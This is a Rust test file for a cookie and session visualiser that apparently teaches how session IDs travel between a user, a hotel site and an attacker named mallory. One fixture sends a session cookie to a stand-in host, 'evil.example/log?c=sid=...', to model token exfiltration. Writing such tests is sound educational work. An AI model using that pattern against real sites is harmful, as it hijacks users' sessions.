use cloakroom_engine::{
    cookie::Kind as Purpose,
    exchange::{Exchange, How, Navigation, Received, RequestTrace, Sent, StoreEvent, StoreTrace},
    script::Played,
};
use url::Url;

use super::*;

/// A request of this person's to this host, with what it did in the store.
pub(in super::super) fn exchange(who: &str, host: &str, events: Vec<StoreEvent>) -> Exchange {
    let url = Url::parse(&format!("https://{host}/account")).unwrap();
    Exchange {
        who: who.to_owned(),
        at: OffsetDateTime::UNIX_EPOCH,
        navigation: Navigation { how: How::ByHand, initiator: None, kind: Purpose::Navigate },
        request: Sent { method: "GET".to_owned(), url, headers: Vec::new(), body: String::new() },
        response: Received { status: 200, headers: Vec::new(), body: String::new() },
        verdicts: Vec::new(),
        set: Vec::new(),
        store: StoreTrace(events),
        passage: RequestTrace::default(),
    }
}

/// A step of one line with this exchange.
pub(in super::super) fn step(exchange: Exchange, late: bool) -> RunStep {
    let played = Played {
        by: Actor::ALL.into_iter().find(|a| a.name() == exchange.who),
        exchanges: vec![exchange],
        late,
        ..Played::default()
    };
    let (title, played, put_up) = ("A step".to_owned(), vec![played], Vec::new());
    RunStep { number: 1, title, reached: true, played, put_up, won: false }
}

fn row(of: Exchange) -> RowView {
    let step = step(of, false);
    Scene::default().row(&step, &Known::ahead(std::slice::from_ref(&step)))
}

#[test]
fn the_shop_speaks_in_a_lane_of_its_own() {
    let row = row(exchange("alice", SHOP, Vec::new()));
    assert!(row.third == Some(SHOP) && row.messages.iter().all(|m| m.span == "as"), "{:?}", row.messages);
    assert_eq!(row.messages.iter().map(|m| m.tone).collect::<Vec<_>>(), ["alice", "shop"]);
}

#[test]
fn what_a_server_asks_of_another_stands_inside_the_request_that_it_is_for() {
    let mut call = exchange("hotel.grand.example", IDENTITY, Vec::new());
    call.navigation.how = How::Server;
    let mut step = step(exchange("alice", "hotel.grand.example", Vec::new()), false);
    step.played[0].exchanges.insert(0, call);
    let row = Scene::default().row(&step, &Known::ahead(std::slice::from_ref(&step)));
    let told: Vec<_> = row.messages.iter().map(|m| (m.span, m.answer, m.tone)).collect();
    let asks = [("ah", false, "alice"), ("hs", false, "hotel")];
    assert_eq!(told, [&asks[..], &[("hs", true, "shop"), ("ah", true, "hotel")]].concat());
    assert_eq!(row.third, Some(IDENTITY));
}

#[test]
fn a_request_and_an_answer_that_brings_nothing_new_are_one_line_for_a_room() {
    let quiet = row(exchange("alice", "hotel.grand.example", Vec::new()));
    assert_eq!(quiet.lines.iter().map(|m| (m.answer, m.status)).collect::<Vec<_>>(), [(false, Some(200))]);
    let mut sets = exchange("alice", "hotel.grand.example", Vec::new());
    sets.response.headers.push(("Set-Cookie".to_owned(), "sid=abcdefghijklmnopqrstuv".to_owned()));
    assert_eq!(row(sets).lines.len(), 2, "an ID that is new stands on a line of its own");
    let mut forgets = exchange("alice", "hotel.grand.example", Vec::new());
    forgets.response.headers.push(("Set-Cookie".to_owned(), "sid=; Max-Age=0".to_owned()));
    assert_eq!(row(forgets).lines.len(), 2, "and so does what is to be forgotten");
}

#[test]
fn of_many_ids_those_that_alice_has_too_are_drawn_and_the_others_counted() {
    let mut tickets = Tickets::default();
    let ids: Vec<TicketView> = (10..16)
        .map(|n| {
            let value = format!("abcdefghijklmnopqrst{n}");
            tickets.learn(Kind::SessionId, &value, "mallory");
            ticket_view(&value, &tickets).unwrap()
        })
        .collect();
    let (drawn, more) = few(ids.clone(), &ids[4..5]);
    assert_eq!((drawn[0].stub.as_str(), drawn.len(), more), ("S5", 2, 4));
    assert_eq!(few(ids[..4].to_vec(), &[]), (ids[..4].to_vec(), 0));
}

#[test]
fn a_record_stands_where_nothing_passes_by_the_hotel() {
    let message = |host: &str| row(exchange("alice", host, Vec::new())).messages;
    let all = [message("evil.example"), message("hotel.grand.example")].concat();
    assert_eq!(beside(&all), Some(Beside { from: 3, to: 5 }));
    assert_eq!(beside(&message("evil.example")), None);
}

#[test]
fn an_id_that_leaves_in_an_address_is_drawn_and_known_from_then_on() {
    let mut sets = exchange("alice", "hotel.grand.example", Vec::new());
    sets.response.headers.push(("Set-Cookie".to_owned(), "sid=abcdefghijklmnopqrstuv".to_owned()));
    let mut leaks = exchange("alice", "evil.example", Vec::new());
    leaks.request.url = Url::parse("https://evil.example/log?c=sid%3Dabcdefghijklmnopqrstuv").unwrap();
    let steps = [step(sets, false), step(leaks, false)];
    let (known, mut scene) = (Known::ahead(&steps), Scene::default());
    let [first, second] = steps.each_ref().map(|step| scene.row(step, &known));
    assert!(first.mallory_knows.is_empty() && !first.messages[1].ids[0].known_to_mallory);
    assert_eq!(second.messages[0].words.concat(), "GET /log?c=");
    assert_eq!(second.mallory_knows, second.messages[0].ids);
    assert_eq!(second.mallory_knows[0].stub, "S1");
}
